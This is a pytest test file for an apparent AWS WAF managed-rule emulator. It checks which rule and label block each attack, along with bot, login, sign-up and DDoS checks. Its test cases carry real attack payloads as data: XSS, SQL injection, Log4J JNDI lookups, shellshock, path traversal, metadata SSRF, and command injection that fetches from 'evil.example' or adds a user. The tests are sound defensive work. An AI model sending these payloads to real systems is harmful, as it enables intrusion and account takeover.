"""Managed rule groups through a web ACL: which rule blocks what, by which label, on which bytes."""

from __future__ import annotations

import json
from typing import Any

import pytest

from garrison.edge.inspect import Action, Location, RateTable, State, Token, TokenState, Verdict, WebRequest, compile_acl
from garrison.edge.inspect.detect.standard import StandardDetectors
from garrison.edge.inspect.managed.accounts import observe, succeeded
from garrison.edge.inspect.managed.catalog import Catalog
from garrison.edge.inspect.managed.feeds import Feeds, addresses, stolen
from tests.support.waf import request, web_acl

AGENT = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0", "Host": "shop.example.com"}
SHORT = {
    "common": "AWSManagedRulesCommonRuleSet",
    "admin": "AWSManagedRulesAdminProtectionRuleSet",
    "bad": "AWSManagedRulesKnownBadInputsRuleSet",
    "sqli": "AWSManagedRulesSQLiRuleSet",
    "linux": "AWSManagedRulesLinuxRuleSet",
    "posix": "AWSManagedRulesUnixRuleSet",
    "windows": "AWSManagedRulesWindowsRuleSet",
    "php": "AWSManagedRulesPHPRuleSet",
    "wordpress": "AWSManagedRulesWordPressRuleSet",
    "reputation": "AWSManagedRulesAmazonIpReputationList",
    "anonymous": "AWSManagedRulesAnonymousIpList",
    "bots": "AWSManagedRulesBotControlRuleSet",
    "atp": "AWSManagedRulesATPRuleSet",
    "acfp": "AWSManagedRulesACFPRuleSet",
    "ddos": "AWSManagedRulesAntiDDoSRuleSet",
}
FEEDS = Feeds(
    reputation=addresses(["198.51.100.0/24 # bad", "", "; none"]),
    ddos=addresses(["203.0.113.9"]),
    anonymous=addresses(["2001:db8::/32"]),
    hosting_asns=frozenset({64500}),
    verified={"googlebot": addresses(["192.0.2.44"])},
    stolen=frozenset({"5BAA61E4C9B93F3F0682250B6CF8331B7EE68FD8"}),  # SHA-1 of "password", a published digest
)


class Groups:
    """Resources that know the managed groups alone."""

    def __init__(self) -> None:
        self.catalog = Catalog(FEEDS)

    def managed_group(self, vendor: str, name: str, version: str | None) -> Any:
        return self.catalog.get(vendor, name, version)

    def ip_set(self, arn: str) -> list[str]:
        raise KeyError(arn)

    regex_set = ip_set

    def rule_group(self, arn: str) -> dict[str, Any]:
        raise KeyError(arn)

    def locate(self, _ip: str) -> Location:
        return Location()


def acl(
    *names: str, version: str | None = None, config: list[dict[str, Any]] | None = None, overrides: list[Any] | None = None
) -> Any:
    rules = []
    for number, name in enumerate(names):
        spec: dict[str, Any] = {"VendorName": "AWS", "Name": SHORT[name]}
        if version:
            spec["Version"] = version
        if config:
            spec["ManagedRuleGroupConfigs"] = config
        if overrides:
            spec["RuleActionOverrides"] = overrides
        visible = {"SampledRequestsEnabled": True, "CloudWatchMetricsEnabled": True, "MetricName": name}
        rules.append(
            {
                "Name": name,
                "Priority": number,
                "Statement": {"ManagedRuleGroupStatement": spec},
                "OverrideAction": {"None": {}},
                "VisibilityConfig": visible,
            }
        )
    return compile_acl(web_acl(*rules), Groups(), detectors=StandardDetectors())


@pytest.fixture(scope="module")
def everything() -> Any:
    return acl("common", "admin", "bad", "sqli", "linux", "posix", "windows", "php", "wordpress")


def inspect(compiled: Any, asked: WebRequest, state: State | None = None) -> Verdict:
    verdict: Verdict = compiled.inspect(asked, state or State(RateTable()))
    return verdict


def ask(target: str = "/", sent: dict[str, str] | None = None, **more: Any) -> WebRequest:
    return request(target, {**AGENT, **(sent or {})}, **more)


FORM = {"Content-Type": "application/x-www-form-urlencoded"}
JSON = {"Content-Type": "application/json"}
CASES = [
    (
        "common",
        ask("/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        "CrossSiteScripting_QUERYARGUMENTS",
        "core-rule-set:CrossSiteScripting_QueryArguments",
    ),
    (
        "common",
        ask("/", {"Cookie": "a=<script>alert(1)</script>"}),
        "CrossSiteScripting_COOKIE",
        "core-rule-set:CrossSiteScripting_Cookie",
    ),
    (
        "common",
        ask("/", FORM, method="POST", body=b"a=%3Csvg+onload%3Dalert(1)%3E"),
        "CrossSiteScripting_BODY",
        "core-rule-set:CrossSiteScripting_Body",
    ),
    (
        "common",
        ask("/%3Cscript%3Ealert(1)%3C/script%3E"),
        "CrossSiteScripting_URIPATH",
        "core-rule-set:CrossSiteScripting_URIPath",
    ),
    ("common", request("/", {"Host": "a.example"}), "NoUserAgent_HEADER", "core-rule-set:NoUserAgent_Header"),
    ("common", request("/", {"User-Agent": "sqlmap/1.8"}), "UserAgent_BadBots_HEADER", "core-rule-set:BadBots_Header"),
    ("common", ask("/?a=" + "x" * 2047), "SizeRestrictions_QUERYSTRING", "core-rule-set:SizeRestrictions_QueryString"),
    (
        "common",
        ask("/", {"Cookie": "a=" + "x" * 10240}),
        "SizeRestrictions_Cookie_HEADER",
        "core-rule-set:SizeRestrictions_Cookie_Header",
    ),
    ("common", ask("/", method="POST", body=b"x" * 8193), "SizeRestrictions_BODY", "core-rule-set:SizeRestrictions_Body"),
    ("common", ask("/" + "x" * 1024), "SizeRestrictions_URIPATH", "core-rule-set:SizeRestrictions_URIPath"),
    (
        "common",
        ask("/?u=http://169.254.169.254/latest/meta-data/"),
        "EC2MetaDataSSRF_QUERYARGUMENTS",
        "core-rule-set:EC2MetaDataSSRF_QueryArguments",
    ),
    (
        "common",
        ask("/", {"Cookie": "u=http://169.254.169.254/"}),
        "EC2MetaDataSSRF_COOKIE",
        "core-rule-set:EC2MetaDataSSRF_Cookie",
    ),
    (
        "common",
        ask("/", JSON, method="POST", body=b'{"u":"http://169.254.169.254/x"}'),
        "EC2MetaDataSSRF_BODY",
        "core-rule-set:EC2MetaDataSSRF_Body",
    ),
    ("common", ask("/?f=../../../etc/hosts"), "GenericLFI_QUERYARGUMENTS", "core-rule-set:GenericLFI_QueryArguments"),
    ("common", ask("/a/..%2f..%2fetc/passwd"), "GenericLFI_URIPATH", "core-rule-set:GenericLFI_URIPath"),
    (
        "common",
        ask("/", FORM, method="POST", body=b"f=..%5c..%5cwindows%5cwin.ini"),
        "GenericLFI_BODY",
        "core-rule-set:GenericLFI_Body",
    ),
    ("common", ask("/app/config.ini"), "RestrictedExtensions_URIPATH", "core-rule-set:RestrictedExtensions_URIPath"),
    ("common", ask("/?f=error.log"), "RestrictedExtensions_QUERYARGUMENTS", "core-rule-set:RestrictedExtensions_QueryArguments"),
    ("common", ask("/?u=http://203.0.113.7/x.txt"), "GenericRFI_QUERYARGUMENTS", "core-rule-set:GenericRFI_QueryArguments"),
    (
        "common",
        ask("/", JSON, method="POST", body=b'{"u":"ftp://203.0.113.7/x"}'),
        "GenericRFI_BODY",
        "core-rule-set:GenericRFI_Body",
    ),
    ("admin", ask("/phpmyadmin/index.php"), "AdminProtection_URIPATH", "admin-protection:AdminProtection_URIPath"),
    (
        "bad",
        ask("/", {"X-Api": '(java.lang.Runtime).getRuntime().exec("whoami")'}),
        "JavaDeserializationRCE_HEADER",
        "known-bad-inputs:JavaDeserializationRCE_Header",
    ),
    (
        "bad",
        ask("/?a=rO0ABXNyABFqYXZhLnV0aWwu"),
        "JavaDeserializationRCE_QUERYSTRING",
        "known-bad-inputs:JavaDeserializationRCE_QueryString",
    ),
    (
        "bad",
        ask("/", FORM, method="POST", body=b"class.module.classLoader.resources=x"),
        "JavaDeserializationRCE_BODY",
        "known-bad-inputs:JavaDeserializationRCE_Body",
    ),
    ("bad", request("/", {**AGENT, "Host": "localhost:8080"}), "Host_localhost_HEADER", "known-bad-inputs:Host_Localhost_Header"),
    ("bad", ask("/", method="PROPFIND"), "PROPFIND_METHOD", "known-bad-inputs:Propfind_Method"),
    ("bad", ask("/WEB-INF/web.xml"), "ExploitablePaths_URIPATH", "known-bad-inputs:ExploitablePaths_URIPath"),
    (
        "bad",
        request("/", {**AGENT, "User-Agent": "${jndi:ldap://example.com/}"}),
        "Log4JRCE_HEADER",
        "known-bad-inputs:Log4JRCE_Header",
    ),
    (
        "bad",
        ask("/?x=%24%7Bjndi%3Aldap%3A%2F%2Fexample.com%2F%7D"),
        "Log4JRCE_QUERYSTRING",
        "known-bad-inputs:Log4JRCE_QueryString",
    ),
    ("bad", ask("/$%7Bjndi:ldap:%2F%2Fexample.com%7D"), "Log4JRCE_URIPATH", "known-bad-inputs:Log4JRCE_URIPath"),
    (
        "bad",
        ask(
            "/",
            {"Content-Type": "multipart/form-data; boundary=b"},
            method="POST",
            body=b'--b\r\nContent-Disposition: form-data; name="0"\r\n\r\n{"then":"$1:constructor:constructor"}\r\n--b--',
        ),
        None,
        "known-bad-inputs:",
    ),
    ("sqli", ask("/?id=1%27%20or%201=1--"), "SQLi_QUERYARGUMENTS", "sql-database:SQLi_QueryArguments"),
    ("sqli", ask("/", {"Cookie": "id=1' or 1=1--"}), "SQLi_COOKIE", "sql-database:SQLi_Cookie"),
    ("sqli", ask("/", JSON, method="POST", body=b'{"id":"1 union select 1,2"}'), "SQLi_BODY", "sql-database:SQLi_Body"),
    ("sqli", ask("/item/1%27%20or%201=1--"), "SQLi_URIPATH", "sql-database:SQLi_URIPath"),
    ("sqli", ask("/", {"X-Id": "1' or 1=1--"}), "SQLiExtendedPatterns_HEADER", "sql-database:SQLiExtendedPatterns_Header"),
    (
        "sqli",
        ask("/?user__password__startswith=a"),
        "SQLiExtendedPatterns_QUERYARGUMENTS",
        "sql-database:SQLiExtendedPatterns_QueryArguments",
    ),
    ("linux", ask("/?f=/etc/passwd"), "LFI_QUERYSTRING", "linux-os:LFI_QueryString"),
    ("linux", ask("/", {"X-File": "/etc/passwd"}), "LFI_HEADER", "linux-os:LFI_Header"),
    ("linux", ask("/..%2f..%2fetc/passwd"), "LFI_URIPATH", "linux-os:LFI_URIPath"),
    (
        "posix",
        ask("/?h=x;cat%20/etc/passwd"),
        "UNIXShellCommandsVariables_QUERYSTRING",
        "posix-os:UNIXShellCommandsVariables_QUERYSTRING",
    ),
    (
        "posix",
        ask("/", FORM, method="POST", body=b"h=x%3Bwget+http://evil.example/a"),
        "UNIXShellCommandsVariables_BODY",
        "posix-os:UNIXShellCommandsVariables_BODY",
    ),
    (
        "posix",
        ask("/", {"X-A": "() { :;}; /bin/bash -c id"}),
        "UNIXShellCommandsVariables_HEADER",
        "posix-os:UNIXShellCommandsVariables_HEADER",
    ),
    (
        "windows",
        ask("/?c=%26+net+user+a+b+/add"),
        "WindowsShellCommands_QUERYARGUMENTS",
        "windows-os:WindowsShellCommands_QueryArguments",
    ),
    (
        "windows",
        ask("/", FORM, method="POST", body=b"c=Invoke-WebRequest+http://a.example"),
        "PowerShellCommands_BODY",
        "windows-os:PowerShellCommands_Body",
    ),
    (
        "windows",
        ask("/", {"Cookie": "c=Invoke-Expression -Command x"}),
        "PowerShellCommands_COOKIE",
        "windows-os:PowerShellCommands_Cookie",
    ),
    (
        "php",
        ask("/?c=%3C?php+system($_GET[1])"),
        "PHPHighRiskMethodsVariables_QUERYSTRING",
        "php-app:PHPHighRiskMethodsVariables_QueryString",
    ),
    (
        "php",
        ask("/", FORM, method="POST", body=b"c=base64_decode(%27a%27)"),
        "PHPHighRiskMethodsVariables_BODY",
        "php-app:PHPHighRiskMethodsVariables_Body",
    ),
    (
        "php",
        ask("/", {"X-F": "<?php phpinfo(); ?>"}),
        "PHPHighRiskMethodsVariables_HEADER",
        "php-app:PHPHighRiskMethodsVariables_Header",
    ),
    ("wordpress", ask("/xmlrpc.php"), "WordPressExploitablePaths_URIPATH", "wordpress-app:WordPressExploitablePaths_URIPATH"),
    (
        "wordpress",
        ask("/?do-reset-wordpress"),
        "WordPressExploitableCommands_QUERYSTRING",
        "wordpress-app:WordPressExploitableCommands_QUERYSTRING",
    ),
    ("reputation", ask("/", source_ip="198.51.100.7"), "AWSManagedIPReputationList", "amazon-ip-list:AWSManagedIPReputationList"),
    ("anonymous", ask("/", source_ip="2001:db8::1"), "AnonymousIPList", "anonymous-ip-list:AnonymousIPList"),
    ("anonymous", ask("/", asn=64500), "HostingProviderIPList", "anonymous-ip-list:HostingProviderIPList"),
    ("bots", request("/", {"User-Agent": "curl/8.5.0"}), "CategoryHttpLibrary", "bot-control:bot:category:http_library"),
    ("bots", request("/", {"User-Agent": "GPTBot/1.0"}), "CategoryAI", "bot-control:bot:category:ai"),
    (
        "bots",
        request("/", {"User-Agent": "Mozilla/5.0 (compatible; Googlebot/2.1)"}, source_ip="192.0.2.99"),
        "CategorySearchEngine",
        "bot-control:bot:category:search_engine",
    ),
]


@pytest.mark.parametrize(("group", "asked", "rule", "label"), CASES, ids=[str(each[2]) for each in CASES])
def test_each_rule_blocks_its_attack_under_its_label(group: str, asked: WebRequest, rule: str | None, label: str) -> None:
    asked.memo.clear()
    verdict = inspect(acl(group), asked)
    assert verdict.action is Action.BLOCK
    if rule is not None:
        assert verdict.rule_in_group == rule
    assert any(each.startswith(f"awswaf:managed:aws:{label}") for each in verdict.labels)


def test_a_harmless_request_passes_all(everything: Any) -> None:
    verdict = inspect(
        everything,
        ask("/search?q=rock+%27n%27+roll&page=2", {"Cookie": "session=abc", "Referer": "https://www.example.com/a?b=c"}),
    )
    assert verdict.action is Action.ALLOW
    assert verdict.labels == ()


def test_a_find_says_where_and_on_which_bytes(everything: Any) -> None:
    detail = inspect(everything, ask("/?id=1%27%20or%201=1--")).details[0]
    assert (detail.condition, detail.location, detail.field) == ("SQL_INJECTION", "ALL_QUERY_ARGS", "id")
    assert b"or" in detail.matched[0]


def test_a_rule_may_be_overridden_to_count() -> None:
    counted = acl("common", overrides=[{"Name": "CrossSiteScripting_QUERYARGUMENTS", "ActionToUse": {"Count": {}}}])
    verdict = inspect(counted, ask("/?q=<script>alert(1)</script>"))
    assert verdict.action is Action.ALLOW
    assert "awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments" in verdict.labels


def test_the_first_version_has_the_rules_of_then() -> None:
    catalog = Catalog()
    old = {each["Name"] for each in catalog.get("AWS", SHORT["posix"], "Version_1.0").rules}
    new = {each["Name"] for each in catalog.get("AWS", SHORT["posix"]).rules}
    assert old == {"UNIXShellCommandsVariables_QUERYARGUMENTS", "UNIXShellCommandsVariables_BODY"}
    assert "UNIXShellCommandsVariables_HEADER" in new - old
    assert catalog.versions(SHORT["posix"]) == ("Version_1.0", "Version_2.0")
    with pytest.raises(KeyError):
        catalog.get("AWS", SHORT["posix"], "Version_9.0")
    with pytest.raises(KeyError):
        catalog.get("Other", SHORT["posix"])


@pytest.mark.parametrize("name", SHORT.values())
def test_every_group_compiles_in_every_version(name: str) -> None:
    catalog = Catalog(FEEDS)
    for version in catalog.versions(name):
        group = catalog.get("AWS", name, version)
        assert group.label_namespace.startswith("awswaf:managed:aws:")
        assert len({each["Name"] for each in group.rules}) == len(group.rules)


def test_the_attack_hides_in_no_part_of_a_body(everything: Any) -> None:
    nested = {"a": [{"b": {"c": "<script>alert(1)</script>"}}]}
    part = b'--b\r\nContent-Disposition: form-data; name="f"; filename="x.php"\r\n\r\nhello\r\n--b--'
    for sent, body in (
        (JSON, json.dumps(nested).encode()),
        ({"Content-Type": "text/xml"}, b"<a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a>"),
        ({"Content-Type": "multipart/form-data; boundary=b"}, part),
        ({}, b"a=1&b=%3Cscript%3Ealert(1)%3C/script%3E"),
        ({"Content-Type": "text/plain"}, b'{"a":"<script>alert(1)</script>"}'),
        (JSON, b'{"a":1,"a":"<script>alert(1)</script>"'),
        ({"Content-Type": "application/x-www-form-urlencoded; charset=utf-16"}, "a=<script>alert(1)</script>".encode("utf-16")),
    ):
        assert inspect(everything, ask("/", sent, method="POST", body=body)).action is Action.BLOCK, body


def test_a_verified_crawler_passes_bot_control() -> None:
    agent = {"User-Agent": "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"}
    verdict = inspect(
        acl("bots", overrides=[{"Name": "SignalNonBrowserUserAgent", "ActionToUse": {"Count": {}}}]), request("/", agent)
    )
    assert verdict.action is Action.ALLOW


TARGETED = [{"AWSManagedRulesBotControlRuleSet": {"InspectionLevel": "TARGETED"}}]


def test_clients_without_a_token_are_challenged_after_five_requests() -> None:
    state, compiled = State(RateTable()), acl("bots", config=TARGETED)
    found = [inspect(compiled, ask("/", {"Accept": "*/*"}), state).action for _ in range(7)]
    assert found[:5] == [Action.ALLOW] * 5
    assert found[-1] is Action.CHALLENGE


def test_a_token_of_many_addresses_is_blocked() -> None:
    token = Token(TokenState.ACCEPTED, "t1", challenge_solved=1_700_000_000.0)
    state, compiled = State(RateTable(), token), acl("bots", config=TARGETED)
    found = [inspect(compiled, ask("/", {"Accept": "*/*"}, source_ip=f"192.0.2.{number}"), state).action for number in range(12)]
    assert found[0] is Action.ALLOW
    assert found[-1] is Action.BLOCK


LOGIN = {
    "LoginPath": "/login",
    "RequestInspection": {
        "PayloadType": "FORM_ENCODED",
        "UsernameField": {"Identifier": "user"},
        "PasswordField": {"Identifier": "pass"},
    },
}
ATP = [
    {"AWSManagedRulesATPRuleSet": {**LOGIN, "ResponseInspection": {"StatusCode": {"SuccessCodes": [200], "FailureCodes": [401]}}}}
]


def login(user: str, password: str, **more: Any) -> WebRequest:
    return ask("/login", FORM, method="POST", body=f"user={user}&pass={password}".encode(), **more)


def test_stolen_credentials_and_missing_ones_do_not_sign_in() -> None:
    compiled = acl("atp", config=ATP)
    assert inspect(compiled, login("ann", "password")).rule_in_group == "AttributeCompromisedCredentials"
    assert inspect(compiled, login("ann", "")).rule_in_group == "SignalMissingCredential"
    assert inspect(compiled, login("ann", "correct-horse")).action is Action.ALLOW
    assert inspect(compiled, ask("/other", FORM, method="POST", body=b"user=ann&pass=password")).action is Action.ALLOW


def test_many_logins_many_names_and_many_passwords_are_blocked() -> None:
    compiled = acl("atp", config=ATP)
    state = State(RateTable())
    assert [inspect(compiled, login("ann", "x"), state).action for _ in range(25)][-1] is Action.BLOCK
    state = State(RateTable())
    names = [inspect(compiled, login(f"user{number}", "x"), state).rule_in_group for number in range(12)]
    assert "AttributeUsernameTraversal" in names
    state = State(RateTable())
    words = [inspect(compiled, login("ann", f"word{number}"), state).rule_in_group for number in range(12)]
    assert "AttributePasswordTraversal" in words


def test_failed_answers_count_against_an_address() -> None:
    from garrison.edge.inspect import Context  # noqa: PLC0415 - beside its one use

    state, compiled = State(RateTable()), acl("atp", config=ATP)
    context = Context(state, (), {key: value for each in ATP for key, value in each.items()}, 8192)
    for _ in range(11):
        observe(login("ann", "x"), context, status=401, headers={}, body=b"")
    assert inspect(compiled, login("ann", "y"), state).rule_in_group == "VolumetricIpFailedLoginResponseHigh"


@pytest.mark.parametrize(
    ("spec", "status", "headers", "body", "good"),
    [
        ({"StatusCode": {"SuccessCodes": [200], "FailureCodes": [401]}}, 200, {}, b"", True),
        ({"StatusCode": {"SuccessCodes": [200], "FailureCodes": [401]}}, 500, {}, b"", None),
        ({"Header": {"Name": "X-Login", "SuccessValues": ["ok"], "FailureValues": ["no"]}}, 200, {"x-login": "no"}, b"", False),
        ({"BodyContains": {"SuccessStrings": ["Welcome"], "FailureStrings": ["Wrong"]}}, 200, {}, b"<p>Welcome", True),
        (
            {"Json": {"Identifier": "/login/ok", "SuccessValues": ["True"], "FailureValues": ["False"]}},
            200,
            {},
            b'{"login":{"ok":false}}',
            False,
        ),
        ({"Json": {"Identifier": "/x", "SuccessValues": ["1"], "FailureValues": ["2"]}}, 200, {}, b"no json", None),
    ],
)
def test_responses_are_read_as_the_statement_says(
    spec: dict[str, Any], status: int, headers: dict[str, str], body: bytes, good: bool | None
) -> None:
    assert succeeded(spec, status, headers, body) is good


def test_sign_up_is_challenged_and_counted() -> None:
    config = [
        {
            "AWSManagedRulesACFPRuleSet": {
                "CreationPath": "/new",
                "RegistrationPagePath": "/signup",
                "RequestInspection": {
                    "PayloadType": "JSON",
                    "UsernameField": {"Identifier": "/u"},
                    "PasswordField": {"Identifier": "/p"},
                },
            }
        }
    ]
    compiled = acl("acfp", config=config)
    assert inspect(compiled, ask("/signup", {"Accept": "text/html"})).action is Action.CHALLENGE
    assert inspect(compiled, ask("/new", JSON, method="POST", body=b'{"u":"a","p":"password"}')).action is Action.BLOCK
    assert (
        inspect(compiled, ask("/new", JSON, method="POST", body=b'{"u":"a","p":"fine"}')).rule_in_group
        == "SignalClientHumanInteractivityAbsentLow"
    )


def test_a_flood_is_told_from_a_busy_day() -> None:
    state, compiled = State(RateTable()), acl("ddos", config=[{"AWSManagedRulesAntiDDoSRuleSet": {"SensitivityToBlock": "LOW"}}])
    start = 1_700_000_000.0
    calm = [inspect(compiled, ask("/api", method="POST", time=start + number), state).action for number in range(60)]
    assert set(calm) == {Action.ALLOW}
    flood = [
        inspect(compiled, ask("/api", method="POST", source_ip="203.0.113.5", time=start + 400 + number / 100), state)
        for number in range(1500)
    ]
    assert flood[0].action is Action.ALLOW
    assert flood[-1].action is Action.BLOCK
    assert "awswaf:managed:aws:anti-ddos:high-suspicion-ddos-request" in flood[-1].labels


def test_a_list_of_stolen_credentials_takes_pairs_and_passwords() -> None:
    assert stolen(FEEDS, b"anyone", b"password")
    assert not stolen(FEEDS, b"anyone", b"other")
    assert not stolen(Feeds(), b"anyone", b"password")


def test_address_lists_refuse_what_is_no_address() -> None:
    with pytest.raises(ValueError, match="nonsense"):
        addresses(["nonsense"])


def test_the_rule_language_has_its_detectors() -> None:
    own = StandardDetectors()
    assert own.sqli(b"' or 1=1--", "LOW") is not None
    assert own.sqli(b"it's", "LOW") is None
    assert own.xss(b"<script>alert(1)</script>") is not None
    assert own.xss(b"<b>x</b>") is None
